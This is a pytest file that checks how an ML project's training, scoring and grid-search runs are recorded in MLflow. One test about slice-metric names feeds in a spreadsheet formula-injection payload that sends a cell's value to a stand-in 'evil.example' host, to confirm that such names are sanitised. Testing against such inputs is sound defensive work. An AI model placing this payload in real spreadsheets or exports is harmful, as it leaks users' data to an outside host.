"""Run pages that read at a glance: what a data scientist sees of a training run and of a weekly
scoring run in MLflow (the settings in force, a description, the true duration, headline metrics
first and per-slice ones grouped, aliases that do not overlap, the week's input and estimates)."""

from __future__ import annotations

import json
import shutil

import pytest
from mlflow.exceptions import MlflowException
from mlflow.tracking import MlflowClient

from resilience.core.week_files import MANIFEST
from resilience.learn.families import DEFAULT_LGBM_PARAMS
from resilience.tracking import weekly_runs


@pytest.fixture(scope="module")
def champion_run(shared_store):
    client = MlflowClient(shared_store.uri)
    version = client.get_model_version_by_alias("line-resilience", "champion")
    return client, client.get_run(version.run_id), version


def test_params_are_the_settings_in_force_never_blank(champion_run):
    _, run, _ = champion_run
    params = run.data.params
    assert not [k for k, v in params.items() if v == ""], "no blank params"
    for name, default in DEFAULT_LGBM_PARAMS.items():  # the config's nulls, resolved
        assert params[f"model.params.{name}"] == str(default), name
    assert not [k for k in params if k.startswith("governance.")], "prose stays out of params"


def test_the_run_says_what_was_trained_on_what_and_how_it_did(champion_run):
    _, run, _ = champion_run
    description = run.data.tags["mlflow.note.content"]
    assert f"ROC AUC {run.data.metrics['test_roc_auc']:.3f}" in description
    assert "lightgbm" in description and "labels to 20" in description
    assert "champion" in description
    assert " · labels to 20" in run.data.tags["mlflow.runName"]


def test_the_run_lasts_as_long_as_the_training(champion_run):
    """The run starts before fitting: its duration holds every timed stage."""
    _, run, _ = champion_run
    seconds = (run.info.end_time - run.info.start_time) / 1000
    timed = sum(v for k, v in run.data.metrics.items() if k.startswith("seconds_"))
    assert seconds >= 0.95 * timed > 0, (seconds, timed)


def test_headline_metrics_lead_and_slices_group_old_names_kept(champion_run):
    _, run, _ = champion_run
    metrics = run.data.metrics
    for name in ("roc_auc", "pr_auc", "brier", "ece", "precision_at_10"):
        assert metrics[f"headline/{name}"] == metrics[f"test_{name}"]  # old names kept
    grouped = {k: v for k, v in metrics.items() if k.startswith("slice/")}
    assert "slice/line_type.home_grown/auc" in grouped
    assert grouped["slice/line_type.home_grown/auc"] == metrics["auc.line_type.home_grown"]
    # one slice value per set of rows: the same numbers are not repeated under another name
    by_value: dict[str, tuple] = {}
    for key, value in grouped.items():
        _, slice_value, metric = key.split("/")
        by_value.setdefault(slice_value, {})[metric] = value
    shapes = [tuple(sorted(v.items())) for v in by_value.values()]
    assert len(shapes) == len(set(shapes))


def test_challenger_is_never_the_champion(champion_run):
    client, _, version = champion_run
    try:
        challenger = client.get_model_version_by_alias("line-resilience", "challenger")
    except MlflowException:
        return  # no challenger at all
    assert challenger.version != version.version


def test_a_weekly_scoring_run_logs_its_input_mean_estimate_and_cohorts(
    shared_scored_weeks, tmp_path, mlflow_uri
):
    folder = tmp_path / "week"
    shutil.copytree(sorted(p for p in shared_scored_weeks.iterdir() if p.is_dir())[-1], folder)
    manifest = json.loads((folder / MANIFEST).read_text())
    from resilience.tracking.store import TrackingConfig

    run_id = weekly_runs.log_scoring_run(
        TrackingConfig(tracking_uri=mlflow_uri), "weekly-scoring", folder, manifest
    )
    run = MlflowClient(mlflow_uri).get_run(run_id)
    scores = __import__("pandas").read_parquet(folder / "scores.parquet")
    metrics = run.data.metrics
    assert metrics["mean_estimate"] == pytest.approx(scores["persistence_probability"].mean())
    for cohort, group in scores.groupby("line_type"):
        assert metrics[f"by_line_type/{cohort}/mean_estimate"] == pytest.approx(
            group["persistence_probability"].mean()
        )
        assert metrics[f"by_line_type/{cohort}/rows"] == len(group)
    inputs = run.inputs.dataset_inputs
    assert len(inputs) == 1 and inputs[0].dataset.name == f"week {manifest['week']} extract"
    assert {t.key: t.value for t in inputs[0].tags}["mlflow.data.context"] == "scoring"


def test_a_reviewer_finds_lift_gain_and_precision_recall_at_capacity(champion_run):
    client, run, _ = champion_run
    plots = {a.path for a in client.list_artifacts(run.info.run_id, "plots")}
    for name in ("lift_gain_at_capacity.png", "precision_recall_at_k.png", "calibration.png"):
        assert f"plots/{name}" in plots
    tables = {a.path for a in client.list_artifacts(run.info.run_id, "tables")}
    assert "tables/lift_gain_at_k.csv" in tables


def test_the_capacity_curve_against_chance():
    """Two weeks of four lines; a perfect ranking finds every persisting line by k = 2 (each week
    holds two), chance finds k/4 of them."""
    import numpy as np

    from resilience.learn.metrics import capacity_curve

    y = np.array([1, 1, 0, 0, 1, 1, 0, 0])
    p = np.array([0.9, 0.8, 0.2, 0.1, 0.7, 0.6, 0.3, 0.2])
    weeks = np.array(["W1"] * 4 + ["W2"] * 4)
    curve = capacity_curve(y, p, weeks, max_k=4).set_index("k")
    assert curve.loc[2, "recall"] == 1.0 and curve.loc[2, "precision"] == 1.0
    assert curve.loc[2, "lift"] == pytest.approx(2.0)
    assert list(curve["random_recall"]) == pytest.approx([0.25, 0.5, 0.75, 1.0])


@pytest.mark.slow
def test_rerun_reproduces_a_run_s_test_metrics_and_refuses_other_data(own_store, tmp_path):
    from conftest import run_command

    client = MlflowClient(own_store.uri)
    original = client.get_run(
        client.get_model_version_by_alias("line-resilience", "champion").run_id
    )
    other = tmp_path / "other.parquet"
    other.write_bytes((own_store.world / "disruptions.parquet").read_bytes() + b"\0")
    refused = run_command(
        "resilience-train",
        f"rerun={original.info.run_id}",
        f"input={other}",
        cwd=tmp_path,
        env=own_store.env,
    )
    assert refused.returncode == 2 and "SHA-256" in refused.stderr, refused.stderr
    assert refused.stderr.count("\n") == 1
    result = run_command(
        "resilience-train",
        f"rerun={original.info.run_id}",
        f"hydra.run.dir={tmp_path / 'run'}",
        cwd=tmp_path,
        env=own_store.env,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    rerun = client.get_run(result.stdout.split("run ", 1)[1].split(":", 1)[0])
    assert rerun.info.run_id != original.info.run_id
    assert rerun.data.tags["data_sha256"] == original.data.tags["data_sha256"]
    assert rerun.data.tags["rerun_of"] == original.info.run_id, "the rerun names what it reproduces"
    assert f"A rerun of run `{original.info.run_id}`" in rerun.data.tags["mlflow.note.content"]
    tested = {k: v for k, v in original.data.metrics.items() if k.startswith("test_")}
    assert tested and {k: rerun.data.metrics[k] for k in tested} == tested


def test_slice_metric_names_from_any_area_name_are_names_mlflow_accepts():
    """An area written as a link or a path (``http://…``, ``x/../y``, a trailing ``/``) made a
    training stop at MLflow's refusal of the slice metric's name; every such value now gives a
    name MLflow accepts, and an ordinary ``a/b`` keeps its name."""
    from mlflow.utils.validation import _validate_metric_name

    from resilience.tracking.run_page import grouped_slice_metric_names, slice_metric_names

    values = ['=HYPERLINK("http://evil.example/?x="&A1)', "x/../y", "x/./y", "x/", "/", "..", "a/b"]
    rows = [
        {"slice": "policing_area", "value": v, "roc_auc": 0.6 + i / 100, "n": 100}
        for i, v in enumerate(values)
    ]
    names = {**slice_metric_names(rows), **grouped_slice_metric_names(rows)}
    assert len(names) >= len(values)  # values that differ only in refused characters may share one
    for name in names:
        _validate_metric_name(name)  # raises for a name MLflow refuses
    assert "auc.policing_area.a/b" in names


def test_a_slice_value_holding_the_lines_of_one_already_named_is_left_out_of_the_group():
    """As training's fairness table has it: the repeated value carries ``same_lines_as`` and the
    slice metrics measured on its rows, but no calibration slope of its own."""
    from resilience.tracking.run_page import grouped_slice_metric_names

    home_grown = {"roc_auc": 0.80, "brier": 0.18, "calibration_gap": 0.001, "n": 400}
    rows = [
        {"slice": "line_type", "value": "home_grown", **home_grown, "calibration_slope": 0.96},
        {
            "slice": "origin_hub",
            "value": "local",
            **home_grown,
            "same_lines_as": "line_type = home_grown",
        },
        {"slice": "origin_hub", "value": "london", "roc_auc": 0.79, "brier": 0.2, "n": 300},
    ]
    names = grouped_slice_metric_names(rows)
    assert "slice/line_type.home_grown/calibration_slope" in names
    assert not [name for name in names if "origin_hub.local" in name]
    assert "slice/origin_hub.london/auc" in names


def test_a_week_s_estimates_by_record_age_are_logged_when_the_age_is_derived(tmp_path):
    """The data config derives the record's age (no extract carries it): the week's estimates by
    age were left out of its scoring run."""
    import pandas as pd

    from resilience.data.contract import load_data_contract

    contract = load_data_contract("default")
    folder = tmp_path / "2026-W47"
    folder.mkdir()
    (folder / "contract.json").write_text(json.dumps(contract.to_dict()))
    extract = pd.DataFrame(
        {"disruption_date": ["2026-11-22", "2026-11-20", "2026-11-15", "2026-11-08"]}
    )
    scores = pd.DataFrame(
        {"input_row": [1, 2, 3, 4], "persistence_probability": [0.2, 0.4, 0.6, 0.9]}
    )
    scores.to_parquet(folder / "scores.parquet", index=False)
    metrics = weekly_runs.week_estimates(folder, extract)
    assert metrics["by_record_age_weeks/0/rows"] == 2
    assert metrics["by_record_age_weeks/0/mean_estimate"] == pytest.approx(0.3)
    assert metrics["by_record_age_weeks/1/mean_estimate"] == pytest.approx(0.6)
    assert metrics["by_record_age_weeks/1/rows"] == 1
    assert metrics["by_record_age_weeks/2/rows"] == 1


def test_a_grid_s_parent_run_says_what_the_grid_swept(tmp_path, mlflow_uri):
    """The parent of a --multirun grid was a bare "grid (sweep)" run: no word of what it swept."""
    from resilience.tracking import runs
    from resilience.tracking.store import TrackingConfig

    sweep_dir = tmp_path / "multirun" / "2026-12-05_21-38-32"
    sweep_dir.mkdir(parents=True)
    task = ["model.params.num_leaves=5,15", "features.exclude=[a,b]", "input=/data/h.parquet"]
    (sweep_dir / "multirun.yaml").write_text(json.dumps({"hydra": {"overrides": {"task": task}}}))
    config = TrackingConfig(tracking_uri=mlflow_uri)
    run_id = runs.grid_parent_run(config, str(sweep_dir), "grid").open(started_ms=1)
    assert runs.grid_parent_run(config, str(sweep_dir), "grid").run_id == run_id  # found, kept
    job = ["model.params.num_leaves=15", "features.exclude=[a,b]", "input=/data/h.parquet"]
    assert runs.grid_job_label(str(sweep_dir), job) == "model.params.num_leaves=15"
    note = MlflowClient(mlflow_uri).get_run(run_id).data.tags["mlflow.note.content"]
    assert "one child run per combination of model.params.num_leaves=5,15, each with " in note
    assert "features.exclude=[a,b] input=/data/h.parquet" in note and str(sweep_dir) in note


def test_a_run_that_fails_is_marked_failed_with_its_error(mlflow_uri):
    """A run that stopped on an error ended FAILED with no word of why (and, stopped by SIGTERM,
    the same): the runs table and the run page now say what failed."""
    from resilience.core.errors import ResilienceError, Terminated
    from resilience.tracking import runs
    from resilience.tracking.store import TrackingConfig

    error = "extract.csv: column 'contacts': wrong type; expected a whole number >= 0"
    failed = {}
    for name, exc in (("bad data", ResilienceError(error)), ("stopped", Terminated("terminated"))):
        with pytest.raises(type(exc)):
            with runs.start_run(TrackingConfig(), name) as run:
                runs.set_tags({"mlflow.note.content": "what was trained"})
                raise exc
        failed[name] = MlflowClient(mlflow_uri).get_run(run.info.run_id)
    bad = failed["bad data"]
    assert bad.info.status == "FAILED" and bad.data.tags["error"] == error
    assert bad.data.tags["mlflow.note.content"] == f"**FAILED**: {error}\n\nwhat was trained"
    assert failed["stopped"].info.status == "KILLED"
    assert failed["stopped"].data.tags["error"] == "terminated"


def test_a_grid_s_parent_spans_its_jobs_and_names_the_one_that_failed(tmp_path, mlflow_uri):
    """A grid's parent was created finished before its first job: a duration of about 0 s, and a
    job that failed left it FINISHED. It starts with the first job's run and ends after the last;
    a failed job makes it FAILED, naming the job and the error."""
    import time

    from resilience.core.errors import ResilienceError
    from resilience.tracking import runs
    from resilience.tracking.store import TrackingConfig

    config, sweep_dir = TrackingConfig(tracking_uri=mlflow_uri), str(tmp_path / "multirun")
    children = []
    for job in range(2):  # each job finds the parent the first one opened (parent_run.json)
        parent = runs.grid_parent_run(config, sweep_dir, "grid")
        with parent.child(f"job {job}"), runs.start_run(config, f"child {job}", parent=parent) as c:
            time.sleep(0.3)
        children.append(MlflowClient(mlflow_uri).get_run(c.info.run_id).info)
    client = MlflowClient(mlflow_uri)
    span = client.get_run(parent.run_id).info
    assert span.status == "FINISHED" and span.start_time == children[0].start_time
    assert span.end_time >= children[1].end_time and span.end_time - span.start_time >= 600
    with pytest.raises(ResilienceError):
        with runs.grid_parent_run(config, sweep_dir, "grid").child("job 2 (input=short.csv)"):
            raise ResilienceError("the history is too short to split honestly")
    failed = client.get_run(parent.run_id)
    assert failed.info.status == "FAILED"
    assert failed.data.tags["error"] == (
        "job 2 (input=short.csv): the history is too short to split honestly"
    )


def test_a_grid_that_stops_on_its_data_leaves_no_run(tmp_path, tiny_world_dir, new_store_uri):
    """`--multirun` on a history too short to split left a finished "grid (sweep)" run with no
    children: the grid made nothing to review, so nothing is in the store."""
    import pandas as pd
    from conftest import run_command

    history = pd.read_parquet(tiny_world_dir / "disruptions.parquet")
    short = tmp_path / "short.parquet"
    history.sort_values("disruption_date").head(300).to_parquet(short, index=False)
    result = run_command(
        "resilience-train",
        "--multirun",
        "model.params.num_leaves=5,15",
        f"input={short}",
        "as_of=unchecked",
        cwd=tmp_path,
        env={"MLFLOW_TRACKING_URI": new_store_uri},
    )
    assert result.returncode == 2 and "too short to split" in result.stderr, result.stderr
    left = MlflowClient(new_store_uri).search_runs(
        [e.experiment_id for e in MlflowClient(new_store_uri).search_experiments()]
    )
    assert not left, [r.info.run_name for r in left]
